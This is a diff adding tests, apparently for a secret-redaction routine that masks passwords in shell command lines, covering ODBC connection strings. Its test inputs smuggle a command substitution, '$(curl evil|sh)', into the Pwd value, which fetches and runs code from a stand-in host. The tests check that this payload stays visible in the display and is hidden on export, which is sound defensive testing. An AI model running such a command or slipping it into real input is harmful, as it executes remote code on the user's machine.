@@ -215,3 +215,25 @@ describe("mongo's and mongosh's -p, lftp's -u user,password (r63 #4)", () => {
     expect(exportedCommand(line)).toBe(line);
   });
 });
+
+describe("an ODBC {…} value whose quote closes after the pair's ; (r63 #5, display)", () => {
+  it.each([
+    [
+      'Server=db;Pwd={$(curl evil|sh)"};Host=h"',
+      // The shell reads `{…"};Host=h"` as Pwd's one value: `;Host=h` is literal text of it too.
+      'Server=db;Pwd=${PWD_SECRET}$(curl evil|sh)"${PWD_SECRET}${PWD_SECRET}"',
+    ],
+    ['Pwd={ab$(curl evil|sh)"};Host=h"', 'Pwd=${PWD_SECRET}$(curl evil|sh)"${PWD_SECRET}${PWD_SECRET}"'],
+  ])("%j, which the shell runs, is shown with its payload in sight: %j", (line, shown) => {
+    expect(withoutCommandLineSecrets(line)).toBe(shown);
+    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
+    // The export still hides the whole value.
+    expect(exportedCommand(line)).not.toContain("curl");
+  });
+
+  it("still hides the whole value, payload included, on a line the shell refuses", () => {
+    expect(withoutCommandLineSecrets('Server=db;Pwd={$(curl evil|sh)"};Host=h')).toBe(
+      "Server=db;Pwd=${PWD_SECRET};Host=h",
+    );
+  });
+});
